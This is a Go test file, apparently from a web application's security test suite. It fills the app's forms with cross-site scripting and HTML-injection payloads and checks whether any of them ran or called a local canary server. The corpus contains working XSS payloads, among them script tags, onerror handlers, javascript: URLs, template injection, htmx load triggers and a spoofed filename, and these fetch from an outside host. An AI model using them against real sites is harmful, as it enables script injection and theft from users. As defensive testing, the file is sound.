package app

import (
	"fmt"
	"maps"
	"net/http"
	"net/http/httptest"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
)

// canaryHost is a host of the stranger's. Nobody may ever ask it for anything.
type canaryHost struct {
	name string
	mu   sync.Mutex
	hits []string
}

func newCanaryHost(t *testing.T) *canaryHost {
	c := &canaryHost{}
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		c.mu.Lock()
		defer c.mu.Unlock()
		c.hits = append(c.hits, r.Method+" "+r.URL.Path+" from "+r.Header.Get("Referer"))
	}))
	t.Cleanup(s.Close)
	c.name = s.Listener.Addr().String()
	return c
}

func (c *canaryHost) seen() []string {
	c.mu.Lock()
	defer c.mu.Unlock()
	return slices.Clone(c.hits)
}

// corpus are texts of strangers that want to become something else. Each begins with a word of its own.
func (c *canaryHost) corpus() []string {
	var out []string
	for i, s := range []string{
		`"><script src=//HOST/s.js></script>`,
		`'"><img src=http://HOST/i.png onerror=window.pwned=1>`,
		`<svg/onload=window.pwned=1>`,
		`</textarea></title></style></script><script>window.pwned=1</script>`,
		`javascript:window.pwned=1`,
		`http://HOST/plain [md](http://HOST/md) ![i](http://HOST/md.png) <http://HOST/angle>`,
		`[a](javascript:window.pwned=1) [b]: http://HOST/ref`,
		`{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1}`,
		"\u202egnp.exe\u2066 <b hx-get=http://HOST/hx hx-trigger=load>",
		`" hx-get="http://HOST/hx2" hx-trigger="load" style="background:url(http://HOST/css)" x="`,
		`<link rel=stylesheet href=http://HOST/l.css><base href=http://HOST/>`,
		`<meta http-equiv=refresh content="0;url=http://HOST/meta">`,
		`<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
		`<form action=http://HOST/f><input type=image src=http://HOST/ii><math href=javascript:pwned=1>`,
	} {
		out = append(out, fmt.Sprintf("Canary%02d %s", i, strings.ReplaceAll(s, "HOST", c.name)))
	}
	return out
}

// judge looks in the page for anything that a stranger's text became.
const judge = `(() => {
	const bad = [], host = %q
	if (window.pwned) bad.push('a script of a stranger ran')
	for (const e of document.querySelectorAll('*')) {
		for (const a of e.attributes) {
			const what = e.tagName + ' ' + a.name + '=' + a.value.slice(0, 120)
			if (/^on/i.test(a.name)) bad.push(what)
			if (/^(data-)?hx-|^style$|^srcset$|^srcdoc$|^ping$|^background$/i.test(a.name) && a.value.includes(host)) bad.push(what)
			if (/^(href|src|action|formaction|data|poster|xlink:href|cite)$/i.test(a.name)) {
				let u
				try { u = new URL(a.value, location.href) } catch (x) { continue }
				if (u.host === host || u.protocol === 'javascript:' || u.protocol === 'vbscript:' || (u.protocol === 'data:' && a.value !== 'data:,' && e.tagName !== 'IMG')) bad.push(what)
			}
		}
		if (/^(SCRIPT|STYLE|IFRAME|OBJECT|EMBED|BASE|META|LINK)$/.test(e.tagName) && /Canary\d\d/.test(e.outerHTML)) bad.push(e.outerHTML.slice(0, 200))
	}
	return bad
})()`

var textLike = regexp.MustCompile(`^(text|search|tel|url|textarea)$`)

// plant fills forms of a page with strangers' texts: all fields at once, and each alone.
func (b *browser) plant(pages map[string]string, texts []string, done map[string]bool) {
	addresses := slices.Sorted(maps.Keys(pages))
	n := 0
	for _, at := range addresses {
		forms, _ := formsOf(at, pages[at])
		for _, s := range forms {
			if done[s.key()] || ends(s.Action) || !s.Post {
				continue
			}
			done[s.key()] = true
			buttons := []*control{nil}
			for i := range s.Buttons {
				buttons = append(buttons, &s.Buttons[i])
			}
			fill := func(only string) func(control) (string, bool) {
				return func(c control) (string, bool) {
					n++
					switch {
					case textLike.MatchString(c.Type) && (only == "" || only == c.Name || c.Type == "textarea"):
						return texts[n%len(texts)], true
					case textLike.MatchString(c.Type) && c.Value == "":
						return "x", only != ""
					case c.Type == "email":
						return "canary'o+x@canary.example", true
					case c.Type == "radio" || c.Type == "checkbox":
						return c.Options[0], true
					case c.Type == "datetime-local":
						return time.Now().Add(48 * time.Hour).UTC().Format("2006-01-02T15:04"), c.Value == ""
					case c.Type == "select" && c.Value == "" && len(c.Options) > 1:
						return c.Options[1], true
					}
					return "", false
				}
			}
			file := `Canary99 "><img src=x onerror=window.pwned=1>` + "\u202e" + `.html`
			for _, button := range buttons {
				b.submit(s, s.filled(button, fill("")), file)
				b.submit(s, s.filled(button, fill("-")), file)
			}
			for _, c := range s.Controls {
				if c.Type != "textarea" && textLike.MatchString(c.Type) {
					b.submit(s, s.filled(nil, fill(c.Name)), "")
				}
			}
		}
	}
}
